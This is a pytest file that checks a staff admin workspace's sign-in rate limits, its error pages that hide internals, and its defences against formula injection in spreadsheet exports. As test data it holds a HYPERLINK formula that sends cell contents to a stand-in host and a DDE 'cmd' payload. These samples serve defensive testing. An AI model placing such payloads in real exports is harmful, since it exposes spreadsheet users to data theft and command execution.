"""Issue 15, the staff workspace's edge: sign-in limits a client cannot dodge (forwarded headers,
HEAD, GET, several servers), error pages that name nothing internal, and exports that carry no
live spreadsheet formula — every export the workspace offers."""

from __future__ import annotations

import io
import shutil
import subprocess
import time

import pytest
from openpyxl import load_workbook

from bot.db import session_scope
from bot.knowledge.models import UnansweredQuestion
from bot.staff.transfer import export_data, import_data
from tests.conftest import free_port
from tests.staff.conftest import (  # noqa: F401 - fixtures used by name
    PASSWORDS,
    TOPIC,
    StaffClient,
    cheap_password_hashing,
    signed_in,
    staff_app,
    staff_db,
    staff_settings,
)

EVIL = '=HYPERLINK("http://x.example/?d="&A1,"bấm")'


def _fail(client: StaffClient, username: str, forwarded_for: str | None = None) -> int:
    token = client.token("/admin/login")
    headers = {"X-Forwarded-For": forwarded_for} if forwarded_for else {}
    return client.http.post(
        "/admin/login",
        data={"username": username, "password": "sai-mat-khau", "csrf_token": token},
        headers=headers, follow_redirects=False,
    ).status_code


# --- sign-in limits -----------------------------------------------------------------------------


def test_a_trusted_proxy_names_the_client_and_each_client_has_its_own_limit(
    staff_app, monkeypatch  # noqa: F811
) -> None:
    monkeypatch.setenv("TRUSTED_PROXIES", "10.0.0.1")
    proxy = StaffClient(staff_app, client_ip="10.0.0.1")
    # 20 failures from one client behind the proxy (different accounts, so only the address
    # limit applies): the 21st is refused...
    statuses = [_fail(proxy, f"ai-do-{n}", "198.51.100.7") for n in range(21)]
    assert statuses[:20] == [400] * 20 and statuses[20] == 429, statuses
    # ...while another client behind the same proxy is not punished for it.
    assert _fail(proxy, "nguoi-khac", "198.51.100.8") == 400
    # A client that adds its own X-Forwarded-For in front of the proxy's cannot escape.
    assert _fail(proxy, "ai-do-x", "203.0.113.99, 198.51.100.7") == 429


def test_the_account_limit_holds_across_addresses(staff_app) -> None:  # noqa: F811
    for n in range(5):  # the per-account limit: 5 failures in 15 minutes
        assert _fail(StaffClient(staff_app, client_ip=f"203.0.113.{n + 10}"), "editor1") == 400
    # Now even the right password, from a fresh address, is refused without being checked.
    fresh = StaffClient(staff_app, client_ip="203.0.113.200")
    assert fresh.login("editor1", PASSWORDS["editor1"]).status_code == 429
    # Other accounts are untouched.
    assert fresh.login("viewer1", PASSWORDS["viewer1"]).status_code == 302


def test_get_and_head_never_sign_in_or_count(staff_app) -> None:  # noqa: F811
    client = StaffClient(staff_app, client_ip="203.0.113.30")
    query = "?username=editor1&password=" + PASSWORDS["editor1"]
    for _ in range(6):
        assert client.http.head("/admin/login" + query).status_code == 200
        assert client.http.get("/admin/login" + query).status_code == 200
    # Not signed in by the query string...
    assert client.get("/admin/dashboard", follow_redirects=False).status_code == 302
    # ...and nothing was counted against the account.
    assert client.login("editor1").status_code == 302


@pytest.fixture
def redis_url():  # noqa: ANN201
    server = shutil.which("redis-server")
    if server is None:
        pytest.skip("redis-server is not installed")
    port = free_port()
    process = subprocess.Popen(  # noqa: S603 - a fixed local binary
        [server, "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    try:
        import redis

        client = redis.Redis(port=port)
        for _ in range(100):
            try:
                client.ping()
                break
            except redis.ConnectionError:
                time.sleep(0.05)
        yield f"redis://127.0.0.1:{port}"
    finally:
        process.terminate()
        process.wait(timeout=10)


def test_servers_sharing_redis_share_the_sign_in_counters(
    staff_db, staff_settings, redis_url, monkeypatch  # noqa: F811
) -> None:
    from bot.staff.app import standalone_app

    monkeypatch.setenv("RATE_LIMIT_STORAGE_URL", redis_url)
    first = StaffClient(standalone_app(staff_db, staff_settings), client_ip="203.0.113.40")
    second = StaffClient(standalone_app(staff_db, staff_settings), client_ip="203.0.113.41")
    for _ in range(3):
        assert _fail(first, "editor1") == 400
    for _ in range(2):
        assert _fail(second, "editor1") == 400
    # Five failures in all: the account is locked on both servers.
    assert first.login("editor1").status_code == 429
    assert second.login("editor1").status_code == 429


# --- error pages --------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [
    "/admin/faq-entry/details/no-such-entry-4711",
    "/admin/faq-entry/edit/no-such-entry-4711",
    "/admin/unanswered-question/details/4711",
    "/admin/unanswered-question/details/" + "9" * 40,
    "/admin/unanswered-question/details/abc4711",
    "/admin/unanswered-question/details/-4711",
    "/admin/unanswered-question/details/4_711",
    "/admin/unanswered-question/details/٤٧١١",
    "/admin/no-such-view-4711/list",
    "/admin/transfer/export/nothing-4711/csv",
])
def test_error_pages_name_no_record_or_internals(signed_in, path: str) -> None:  # noqa: F811
    client = signed_in("admin1")
    client.http = type(client.http)(client.http.app, raise_server_exceptions=False,
                                    cookies=client.http.cookies)
    response = client.get(path, follow_redirects=False)
    assert 400 <= response.status_code < 500, (path, response.status_code)
    for leak in ("4711", "9" * 40, "Traceback", "sqlalchemy", "sqlite", "127.0.0.1"):
        assert leak not in response.text, (path, leak)


# --- exports ------------------------------------------------------------------------------------


def _faq_csv(question: str, answer: str) -> bytes:
    header = "id,topic,status,question,answer,variants,sources,entities\n"
    row = f'roo-evil,{TOPIC},draft,"{question.replace(chr(34), chr(34) * 2)}",{answer},,,\n'
    return (header + row).encode("utf-8")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_faq_export_is_inert_and_round_trips(staff_db, fmt: str) -> None:  # noqa: F811
    with session_scope(staff_db) as session:
        report = import_data(session, "faq", _faq_csv(EVIL, "-5 phần trăm"), "csv", "editor1")
        assert report.created == ["roo-evil"], report.errors
    with session_scope(staff_db) as session:
        exported = export_data(session, "faq", fmt)
    if fmt == "csv":
        text = exported.decode("utf-8-sig")
        assert "'=HYPERLINK" in text and "'-5 phần trăm" in text
        assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
    else:
        cells = [c.value for row in load_workbook(io.BytesIO(exported)).active for c in row]
        assert "'" + EVIL in cells and EVIL not in cells
    with session_scope(staff_db) as session:
        again = import_data(session, "faq", exported, fmt, "editor1")
    assert again.unchanged == ["roo-evil"] and again.written == 0, again.errors


def test_events_export_is_inert(staff_db) -> None:  # noqa: F811
    import datetime as dt

    from bot.events.models import Event

    start = dt.datetime(2026, 12, 10, 1, 0, tzinfo=dt.UTC)
    with session_scope(staff_db) as session:
        session.add(Event(external_key="evil-event", title=EVIL, start_at=start,
                          end_at=start + dt.timedelta(hours=2)))
    for fmt in ("csv", "xlsx"):
        with session_scope(staff_db) as session:
            exported = export_data(session, "events", fmt)
        if fmt == "csv":
            assert "'=HYPERLINK" in exported.decode("utf-8-sig")
            assert ",=HYPERLINK" not in exported.decode("utf-8-sig")
        else:
            cells = [c.value for row in load_workbook(io.BytesIO(exported)).active for c in row]
            assert "'" + EVIL in cells and EVIL not in cells


def test_the_inbox_log_export_is_inert(staff_db, signed_in) -> None:  # noqa: F811
    with session_scope(staff_db) as session:
        session.add(UnansweredQuestion(text="@SUM(1+1)*cmd|' /C calc'!A0", reason="fallback",
                                       channel="rest"))
    response = signed_in("editor1").get("/admin/unanswered-question/export/csv")
    assert response.status_code == 200, response.text[:300]
    assert "'@SUM(1+1)" in response.text
    assert ",@SUM" not in response.text and ',"@SUM' not in response.text
